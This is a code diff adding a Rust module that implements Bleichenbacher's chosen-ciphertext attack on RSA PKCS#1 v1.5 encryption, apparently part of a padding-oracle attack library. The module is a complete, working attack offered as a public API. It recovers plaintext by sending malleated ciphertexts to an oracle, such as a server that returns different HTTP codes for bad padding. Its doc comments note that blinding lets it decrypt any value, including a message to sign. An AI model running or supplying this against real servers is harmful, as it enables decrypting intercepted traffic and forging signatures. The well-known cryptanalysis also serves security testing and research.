@@ -0,0 +1,250 @@
+//! Bleichenbacher's attack on RSA PKCS#1 v1.5 encryption.
+//!
+//! The oracle tells whether a ciphertext decrypts to a PKCS#1 v1.5 conforming message, starting
+//! with `0x00 0x02`. RSA is malleable: multiplying the ciphertext by `s^e` multiplies the message
+//! by `s`, so every conforming `s` narrows down the range the message is in, until a single
+//! value is left. See "Chosen Ciphertext Attacks Against Protocols Based on the RSA Encryption
+//! Standard PKCS #1", D. Bleichenbacher, 1998.
+//!
+//! Numbers, such as the modulus and the public exponent, are big-endian bytes. Oracles are the
+//! same [PaddingOracle]s as for the CBC attack, and are sent ciphertexts as long as the modulus.
+//!
+//! # Example
+//! ```no_run
+//! # fn send(_: &[u8]) -> u16 { 200 }
+//! # let (modulus, exponent, ciphertext) = ([0xffu8; 128], [1, 0, 1], [0u8; 128]);
+//! use padding_oracle::rsa_pkcs1;
+//!
+//! let message = rsa_pkcs1::decrypt(&modulus, &exponent, &ciphertext, |probe: &[u8]| {
+//!     // The server answers differently when the padding is wrong
+//!     send(probe) != 400
+//! })?;
+//!
+//! println!("{:?}", rsa_pkcs1::unpad(&message));
+//! # Ok::<(), padding_oracle::Error>(())
+//! ```
+
+use alloc::vec::Vec;
+
+use crate::bigint::BigUint;
+use crate::rsa::Target;
+pub use crate::rsa::{RsaOptions, RsaStats};
+use crate::{Error, PaddingOracle, Result};
+
+/// Recover the message a ciphertext decrypts to, padding included, from an oracle telling
+/// whether a ciphertext decrypts to a PKCS#1 v1.5 conforming message.
+///
+/// The message is as long as the modulus, see [unpad] to strip its padding. Ciphertexts which
+/// are not conforming are blinded first, which makes it possible to decrypt any number, such as
+/// a message to sign, at the cost of many more queries.
+///
+/// This takes from thousands to millions of queries depending on how strict the oracle is, see
+/// [decrypt_with_stats]. Fails with [Error::LengthMismatch] if the ciphertext is not as long as
+/// the modulus, with [Error::TooShort] if the modulus is shorter than the 11 bytes of
+/// the smallest conforming message, with [Error::InconsistentOracle] if the answers of the
+/// oracle contradict each other, and with [Error::QueryBudgetExceeded] once it sent the
+/// [default](RsaOptions::max_queries) maximum of queries.
+pub fn decrypt(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    decrypt_with_stats(modulus, public_exponent, ciphertext, oracle).map(|(message, _)| message)
+}
+
+/// Same as [decrypt], but also returns statistics about the attack.
+pub fn decrypt_with_stats(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+) -> Result<(Vec<u8>, RsaStats)> {
+    attack(
+        modulus,
+        public_exponent,
+        ciphertext,
+        oracle,
+        &RsaOptions::default(),
+    )
+}
+
+/// Same as [decrypt], with custom options.
+pub fn decrypt_with_options(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+    options: &RsaOptions,
+) -> Result<Vec<u8>> {
+    attack(modulus, public_exponent, ciphertext, oracle, options).map(|(message, _)| message)
+}
+
+fn attack(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+    options: &RsaOptions,
+) -> Result<(Vec<u8>, RsaStats)> {
+    let mut attack = Attack {
+        target: Target::new(modulus, public_exponent, ciphertext, oracle, 11, options)?,
+    };
+    let message = attack.run()?;
+
+    Ok((message.to_bytes_be(attack.target.k), attack.target.stats))
+}
+
+/// The message inside a PKCS#1 v1.5 encryption padding, or `None` if it is not conforming.
+///
+/// The padding is `0x00 0x02`, at least 8 non-zero bytes, then a zero byte.
+///
+/// # Example
+/// ```
+/// use padding_oracle::rsa_pkcs1;
+///
+/// let encoded = b"\x00\x02\x11\x22\x33\x44\x55\x66\x77\x88\x00hello";
+/// assert_eq!(rsa_pkcs1::unpad(encoded), Some(&b"hello"[..]));
+/// ```
+pub fn unpad(encoded: &[u8]) -> Option<&[u8]> {
+    let padding = encoded.strip_prefix(&[0x00, 0x02])?;
+    let separator = padding.iter().position(|&byte| byte == 0)?;
+
+    (separator >= 8).then(|| &padding[separator + 1..])
+}
+
+struct Attack<O> {
+    target: Target<O>,
+}
+
+impl<O: PaddingOracle> Attack<O> {
+    /// Whether the ciphertext for the message multiplied by `s` is conforming
+    fn conforming(&mut self, s: &BigUint) -> Result<bool> {
+        self.target.valid(s)
+    }
+
+    fn run(&mut self) -> Result<BigUint> {
+        let one = BigUint::from_u64(1);
+        let b = BigUint::power_of_two(8 * (self.target.k - 2));
+        let (b2, b3) = (&b + &b, &(&b + &b) + &b);
+
+        // Step 1: blinding, so the message is conforming
+        let blinding = self.target.blind()?;
+
+        // Step 2.a: the first conforming multiple
+        let mut s = self.target.n.div_ceil(&b3);
+        while !self.conforming(&s)? {
+            s = &s + &one;
+        }
+
+        let mut intervals = Vec::from([(b2.clone(), &b3 - &one)]);
+
+        loop {
+            // Step 3: narrow the intervals the message is in
+            intervals = self.narrow(&intervals, &s, &b2, &b3);
+            self.target.stats.iterations += 1;
+
+            match &intervals[..] {
+                [] => return Err(Error::InconsistentOracle),
+                // Step 4: found it
+                [(a, b)] if a == b => {
+                    return Ok(&(a * &blinding) % &self.target.n);
+                }
+                // Step 2.c: a single interval, search `s` close to its ideal value
+                [(a, b)] => {
+                    let (a, b) = (a.clone(), b.clone());
+                    s = self.search_single(&a, &b, &s, &b2, &b3)?;
+                }
+                // Step 2.b: several intervals, search the next conforming `s`
+                _ => {
+                    s = &s + &one;
+                    while !self.conforming(&s)? {
+                        s = &s + &one;
+                    }
+                }
+            }
+        }
+    }
+
+    /// Search `s` for a single interval `[a, b]`, from the previous one
+    fn search_single(
+        &mut self,
+        a: &BigUint,
+        b: &BigUint,
+        previous: &BigUint,
+        b2: &BigUint,
+        b3: &BigUint,
+    ) -> Result<BigUint> {
+        let one = BigUint::from_u64(1);
+        let two = BigUint::from_u64(2);
+
+        // r >= 2 (b * s - 2B) / n
+        let mut r = (&two * &(&(b * previous) - b2)).div_ceil(&self.target.n);
+
+        loop {
+            let rn = &r * &self.target.n;
+            let mut s = (b2 + &rn).div_ceil(b);
+            let end = (&(b3 + &rn) - &one).div_rem(a).0;
+
+            while s <= end {
+                if self.conforming(&s)? {
+                    return Ok(s);
+                }
+                s = &s + &one;
+            }
+
+            r = &r + &one;
+        }
+    }
+
+    /// The parts of the intervals compatible with `s` making the message conforming
+    fn narrow(
+        &self,
+        intervals: &[(BigUint, BigUint)],
+        s: &BigUint,
+        b2: &BigUint,
+        b3: &BigUint,
+    ) -> Vec<(BigUint, BigUint)> {
+        let one = BigUint::from_u64(1);
+        let mut narrowed = Vec::new();
+
+        for (a, b) in intervals {
+            // (a * s - 3B + 1) / n <= r <= (b * s - 2B) / n
+            let low = &(a * s) + &one;
+            let mut r = if low > *b3 {
+                (&low - b3).div_ceil(&self.target.n)
+            } else {
+                BigUint::zero()
+            };
+            let last = (&(b * s) - b2).div_rem(&self.target.n).0;
+
+            while r <= last {
+                let rn = &r * &self.target.n;
+                let low = (b2 + &rn).div_ceil(s).max(a.clone());
+                let high = (&(b3 + &rn) - &one).div_rem(s).0.min(b.clone());
+
+                if low <= high {
+                    narrowed.push((low, high));
+                }
+                r = &r + &one;
+            }
+        }
+
+        // Merge the overlapping intervals
+        narrowed.sort_by(|x, y| x.0.cmp(&y.0));
+        let mut merged: Vec<(BigUint, BigUint)> = Vec::with_capacity(narrowed.len());
+
+        for (low, high) in narrowed {
+            match merged.last_mut() {
+                Some((_, last)) if low <= *last => {
+                    if high > *last {
+                        *last = high;
+                    }
+                }
+                _ => merged.push((low, high)),
+            }
+        }
+
+        merged
+    }
+}